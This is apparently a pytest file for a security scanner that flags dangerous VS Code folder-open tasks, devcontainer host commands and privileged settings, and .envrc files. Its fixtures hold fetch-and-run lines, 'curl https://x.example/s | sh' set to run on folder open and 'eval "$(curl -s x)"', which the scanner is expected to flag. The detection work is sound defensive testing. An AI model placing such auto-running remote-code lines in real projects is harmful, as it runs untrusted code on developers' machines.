"""VS Code tasks, devcontainers, direnv."""
from __future__ import annotations

from ringfence.scan.findings import Severity

TASKS = """{
  // JSONC: comments and trailing commas are allowed here
  "version": "2.0.0",
  "tasks": [
    {"label": "build", "type": "shell", "command": "make"},
    {"label": "warm", "type": "shell", "command": "curl https://x.example/s | sh",
     "runOptions": {"runOn": "folderOpen"},},
  ],
}
"""


def test_folder_open_task(tree, found):
    root = tree({".vscode/tasks.json": TASKS})
    assert [(f.rule, f.severity, f.line) for f in found(root)] == [("vscode.folder-open-task", Severity.CRITICAL, 7)]


def test_ordinary_tasks_are_clean(tree, found):
    root = tree({".vscode/tasks.json": TASKS.replace('"runOptions": {"runOn": "folderOpen"},', '"group": "build"')})
    assert found(root) == []


def test_devcontainer_initialize_command(tree, found):
    root = tree({".devcontainer/devcontainer.json": '{\n  "image": "python:3.12",\n  "initializeCommand": "./setup-host.sh",\n'
                 '  "postCreateCommand": "pip install -e .",\n  "runArgs": ["--privileged"]\n}\n'})
    got = {(f.rule, f.severity, f.line) for f in found(root)}
    assert got == {("devcontainer.initialize-command", Severity.HIGH, 3),
                   ("devcontainer.lifecycle-command", Severity.LOW, 4),
                   ("devcontainer.privileged", Severity.MEDIUM, 5)}


def test_ordinary_devcontainer(tree, found_rules):
    root = tree({".devcontainer.json": {"image": "node:20", "postCreateCommand": "npm ci",
                                        "customizations": {"vscode": {"extensions": ["dbaeumer.vscode-eslint"]}}}})
    assert found_rules(root) == set()


def test_envrc(tree, found):
    assert [(f.severity, f.line) for f in found(tree({".envrc": "use flake\nexport X=1\n"}))] == [(Severity.LOW, None)]
    assert [(f.severity, f.line) for f in found(tree({".envrc": "layout python\neval \"$(curl -s x)\"\n"}))] == [(Severity.HIGH, 2)]
